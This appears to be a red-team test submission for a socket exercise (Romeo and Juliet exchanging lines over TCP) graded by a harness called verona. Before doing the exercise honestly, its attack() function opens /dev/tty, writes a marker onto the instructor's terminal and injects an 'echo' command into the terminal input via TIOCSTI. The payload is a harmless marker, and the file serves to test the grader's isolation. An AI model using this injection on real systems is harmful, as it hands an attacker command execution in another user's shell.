#!/usr/bin/env python3
"""Hostile submission for balcony-tcp (red team): reaches the terminal the
instructor runs verona in.  It opens /dev/tty (the controlling terminal it
would share with verona's agent), writes a line onto it and pushes a
command into its input with TIOCSTI, as if the instructor had typed it: the
shell reads it once verona exits.  What it managed is reported on stderr
("tty: ..."); the markers are built at run time, so only the terminal
itself can show them.  Then it does the exercise honestly.  Bounded: a few
system calls."""
import fcntl
import os
import socket
import sys
import termios


def attack():
    shown = "-".join(["REDTEAM", "TTY", "WRITTEN"])
    typed = "-".join(["REDTEAM", "TTY", "TYPED"])
    try:
        fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    except OSError as e:
        print("tty: cannot open /dev/tty:", e.__class__.__name__, file=sys.stderr)
        return
    print("tty: opened /dev/tty", file=sys.stderr)
    try:
        os.write(fd, ("\r\n" + shown + "\r\n").encode())
        print("tty: wrote onto the terminal", file=sys.stderr)
    except OSError as e:
        print("tty: cannot write:", e.__class__.__name__, file=sys.stderr)
    try:
        for ch in ("echo " + typed + "\n").encode():
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print("tty: typed into the terminal", file=sys.stderr)
    except OSError as e:
        print("tty: cannot type:", e.__class__.__name__, file=sys.stderr)
    os.close(fd)


ROMEO = """She speaks:
O, speak again, bright angel! for thou art
As glorious to this night, being o'er my head
As is a winged messenger of heaven
Unto the white-upturned wondering eyes
Of mortals that fall back to gaze on him
When he bestrides the lazy-pacing clouds
And sails upon the bosom of the air.""".splitlines()

JULIET = """O Romeo, Romeo! wherefore art thou Romeo?
Deny thy father and refuse thy name;
Or, if thou wilt not, be but sworn my love,
And I'll no longer be a Capulet.""".splitlines()


def recv_lines(sock):
    data = b""
    while True:
        chunk = sock.recv(1024)
        if not chunk:
            break
        data += chunk
    for line in data.decode().splitlines():
        print("received:", line)


def send_lines(sock, lines):
    for line in lines:
        sock.sendall((line + "\n").encode())
        print("sent:", line)


def main():
    if sys.argv[1] == "juliet":
        server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("", int(sys.argv[2])))
        server.listen()
        conn, _ = server.accept()
        recv_lines(conn)            # until romeo has said everything
        send_lines(conn, JULIET)
        conn.close()
        server.close()
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.connect((sys.argv[2], int(sys.argv[3])))
        send_lines(sock, ROMEO)
        sock.shutdown(socket.SHUT_WR)   # done speaking
        recv_lines(sock)
        sock.close()


if __name__ == "__main__":
    attack()
    main()
